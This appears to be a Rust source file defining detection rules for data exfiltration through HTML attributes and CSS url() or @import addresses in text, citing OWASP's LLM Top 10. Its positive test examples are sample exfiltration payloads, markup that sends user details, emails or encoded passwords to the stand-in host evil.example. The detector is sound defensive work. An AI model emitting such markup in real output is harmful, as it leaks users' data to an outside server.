//! `exfiltration.html` and `exfiltration.css-url`: an attribute or a style whose address is fetched or posted to.

use super::address::{self, Followed};
use crate::class::Class;
use crate::detect::rules::{Detector, Hit, Progress, Rule, Verdict, example};
use crate::detect::window::{Ahead, Window};

/// Longest beginning of a tag that is read back, in bytes: its name and the attributes before this one.
const MAX_TAG: u64 = 200;
/// White space before an address, in bytes.
const MAX_SPACE: u64 = 8;
/// The anchor that is an address only in a `meta` element.
const REFRESH: u16 = 0;

pub(super) const HTML: Rule = Rule {
    id: "exfiltration.html",
    class: Class::Exfiltration,
    level: None,
    description: "HTML element whose address carries data",
    source: "HTML Living Standard: img, script, iframe, form, link, object, embed, video, audio, source, a; OWASP LLM Top 10 \
             2025, LLM05",
    true_examples: &[
        example(
            "<img src=\"https://evil.example/p?q=the+user+asked+about+salaries\">",
            "https://evil.example/p?q=the+user+asked+about+salaries",
        ),
        example(
            "<iframe width=1 src='//evil.example/?to=bob@corp.example'></iframe>",
            "//evil.example/?to=bob@corp.example",
        ),
        example(
            "<form method=post action=https://evil.example/dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI>",
            "https://evil.example/dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
        ),
        example(
            r#"{"html":"<IMG ALT=\"x\" SRC=\"https://evil.example/?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI\">"}"#,
            "https://evil.example/?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
        ),
        example("<a href=\"http://3232235777/\">here</a>", "http://3232235777/"),
        example(
            "<a href='https://evil.example/?to=bob@corp.example'>",
            "https://evil.example/?to=bob@corp.example",
        ),
        example(
            "<img width=1 src = \"https://evil.example/?to=bob@corp.example\">",
            "https://evil.example/?to=bob@corp.example",
        ),
        example(
            "<button formaction='https://evil.example/?to=bob@corp.example'>",
            "https://evil.example/?to=bob@corp.example",
        ),
        example(
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/?to=bob@corp.example\">",
            "https://evil.example/?to=bob@corp.example",
        ),
    ],
    false_examples: &[
        "<link href=\"https://fonts.example.com/css?family=Serif:wght@400;700&display=swap\">",
        "<b title=\"url=https://example.com/?to=bob@corp.example\">",
        "<img src=\"https://example.com/logo.png\" alt=\"a\">",
        "<script src=\"https://cdn.example.com/lib/1.2.3/lib.min.js\"></script>",
        "<a href=\"https://example.com/search?q=how+to+write+a+letter+to+the+mayor\">",
        "src=https://evil.example/?to=bob@corp.example",
        "<b>x</b> src=\"https://evil.example/?to=bob@corp.example\"",
        "<img src=\"pictures/of-the-office.png?w=1\">",
        "<form action=\"/send?to=bob@corp.example\">",
    ],
    detector: Detector {
        any_case: true,
        starts_at_anchor: false,
        not_after: |byte| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_' || byte == b'.',
        look_back: MAX_TAG + 2,
        is_address: true,
        ..Detector::new(
            &[
                b"url=",
                b"src=",
                b"href=",
                b"action=",
                b"poster=",
                b"background=",
                b"srcset=",
                b"ping=",
                b"data=",
                b"src =",
                b"href =",
                b"action =",
                b"formaction",
            ],
            html,
        )
    },
};

fn html(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
    // Blanks, and quotes, escaped where the markup stands in JSON.
    let mut start = hit.end;
    let mut is_given = window.at(hit.end - 1) == Some(b'=');
    let mut is_escaped = false;
    let quote = loop {
        match window.ahead(start) {
            Ahead::Byte(b' ' | b'\t' | b'\n') if !is_escaped && start - hit.end < MAX_SPACE => {}
            Ahead::Byte(b'=') if !is_given => is_given = true,
            Ahead::Byte(b'\\') if !is_escaped => is_escaped = true,
            Ahead::Byte(quote @ (b'"' | b'\'')) => {
                start += 1;
                break Some(quote);
            }
            Ahead::Byte(_) if !is_escaped => break None,
            Ahead::Byte(_) | Ahead::End => return Verdict::No,
            Ahead::Unknown => return Verdict::More { from: start },
        }
        start += 1;
    };
    match address::has_host(window, start) {
        Some(true) if is_given => {}
        Some(_) => return Verdict::No,
        None => return Verdict::More { from: start },
    }
    // The tag is looked for once: its bytes are the same later.
    if progress.note == 0 {
        let Some(tag) = tag(window, hit.start) else { return Verdict::No };
        let is = |name: &[u8]| tag.eq_ignore_ascii_case(name);
        if hit.nth == REFRESH && !is(b"meta") {
            return Verdict::No;
        }
        progress.note = if is(b"a") || is(b"area") { 2 } else { 1 };
        progress.at = start;
    }
    let followed = if progress.note == 1 { Followed::AtOnce } else { Followed::OnClick };
    address::read(window, start, progress, followed, |byte| match quote {
        Some(quote) => byte == quote || matches!(byte, b'\\' | b'\n' | b'\r' | b'<'),
        None => byte.is_ascii_whitespace() || matches!(byte, b'>' | b'<' | b'"' | b'\''),
    })
}

/// The name of the tag that an attribute at `attribute` stands in; `None` where it stands in none.
pub(super) fn tag<'t>(window: &Window<'t>, attribute: u64) -> Option<&'t [u8]> {
    let open =
        (1..=MAX_TAG).map_while(|back| attribute.checked_sub(back)).find_map(|at| {
            match window.at(at) {
                Some(b'<') => Some(Some(at)),
                Some(b'>') | None => Some(None),
                Some(_) => None,
            }
        })??;
    let name = window.slice(open + 1, attribute);
    let end = name.iter().position(|byte| !byte.is_ascii_alphabetic()).unwrap_or(name.len());
    name.get(..end).filter(|name| !name.is_empty())
}

pub(super) const CSS_URL: Rule = Rule {
    id: "exfiltration.css-url",
    class: Class::Exfiltration,
    level: None,
    description: "CSS address that carries data",
    source: "CSS Values and Units Level 4, section 4.5 (url)",
    true_examples: &[
        example(
            "<div style=\"background:url(https://evil.example/?to=bob@corp.example)\">",
            "https://evil.example/?to=bob@corp.example",
        ),
        example(
            "@import url('//evil.example/p?q=the+user+asked+about+salaries');",
            "//evil.example/p?q=the+user+asked+about+salaries",
        ),
        example(
            "body { background: url( 'https://evil.example/?to=bob@corp.example' ) }",
            "https://evil.example/?to=bob@corp.example",
        ),
        example(
            "@import \"https://evil.example/?to=bob@corp.example\";",
            "https://evil.example/?to=bob@corp.example",
        ),
        example(
            "image-set('https://evil.example/?to=bob@corp.example' 1x)",
            "https://evil.example/?to=bob@corp.example",
        ),
    ],
    false_examples: &[
        "background: url(https://example.com/a/logo.png)",
        "background: url(logo@2x.png?to=bob@corp.example)",
        "get_url(https://example.com/?to=bob@corp.example)",
    ],
    detector: Detector {
        any_case: true,
        starts_at_anchor: false,
        not_after: |byte| byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'.',
        is_address: true,
        ..Detector::new(&[b"url(", b"image-set(", b"@import '", b"@import \""], css_url)
    },
};

fn css_url(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
    let mut start = hit.end;
    loop {
        match window.ahead(start) {
            Ahead::Byte(b' ' | b'\t' | b'\n' | b'"' | b'\'') if start - hit.end < MAX_SPACE => start += 1,
            Ahead::Byte(_) => break,
            Ahead::Unknown => return Verdict::More { from: start },
            Ahead::End => return Verdict::No,
        }
    }
    match address::has_host(window, start) {
        Some(true) => address::read(window, start, progress, Followed::AtOnce, |byte| {
            byte.is_ascii_whitespace() || matches!(byte, b')' | b'(' | b'"' | b'\'' | b'\\')
        }),
        Some(false) => Verdict::No,
        None => Verdict::More { from: start },
    }
}
